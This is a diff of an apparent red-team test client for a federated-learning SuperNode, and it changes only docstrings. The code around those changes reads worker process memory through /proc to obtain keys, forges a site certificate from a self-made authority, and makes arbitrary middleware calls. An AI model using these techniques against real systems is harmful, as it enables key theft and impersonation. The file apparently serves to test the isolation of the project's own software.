@@ -1,4 +1,4 @@
-"""Tries, inside a site's SuperNode, all that code from outside might try."""
+"""Tries, inside a site's SuperNode, everything that foreign code might try."""
 
 import datetime as dt
 import json
@@ -20,7 +20,7 @@ app = ClientApp()
 
 
 def attempt(action):
-    """What came of it: the error's name, or a bit of the loot."""
+    """The result: the error's name, or a bit of the loot."""
     try:
         return str(action())[:200]
     except grpc.RpcError as error:
@@ -55,7 +55,7 @@ def ca(context):
 
 
 def read_memory(worker):
-    """The worker's keys are in its memory."""
+    """Read the worker's memory, which holds its keys."""
     for folder in Path("/proc").glob("[0-9]*"):
         line = (folder / "cmdline").read_bytes()
         if worker.encode() in line and b"client_app.worker" in line:
@@ -64,7 +64,7 @@ def read_memory(worker):
 
 
 def forged(context):
-    """A certificate in the site's name, by an authority of our own."""
+    """A certificate in the site's name, issued by our own authority."""
     key, now = ec.generate_private_key(ec.SECP256R1()), dt.datetime.now(dt.UTC)
     name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "site-0")])
     uri = x509.UniformResourceIdentifier("fl-privacy://victim/site/site-0")
@@ -85,7 +85,7 @@ def forged(context):
 
 
 def submit(address, credentials):
-    """Any call at all to the middleware."""
+    """Make any call to the middleware."""
     with grpc.secure_channel(address, credentials) as channel:
         return channel.stream_unary("/fl_privacy.wire.Middleware/Submit")(iter([b""]), timeout=5)
 
